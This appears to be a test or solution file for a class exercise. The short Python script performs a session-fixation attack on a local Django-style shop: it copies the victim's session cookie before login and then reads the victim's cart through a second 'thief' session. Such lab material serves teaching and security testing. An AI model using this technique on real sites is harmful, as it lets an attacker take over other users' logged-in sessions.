# expect: passed
import requests


def answer(url, before, name, after):
    client = requests.Session()
    client.get(url + "/market/" + before + "/")

    def send(path, **form):
        client.post(url + path, data=form | {"csrfmiddlewaretoken": client.cookies["csrftoken"]})

    send("/market/session-cart/add/", product=before)
    send("/market/session-cart/add/", product=before)
    thief = requests.Session()
    thief.cookies.set("sessionid", client.cookies["sessionid"], domain="127.0.0.1", path="/")
    send("/accounts/login/", username=name, password="only-for-class")
    send("/market/session-cart/add/", product=after)
    thief.get(url + "/market/session-cart/")
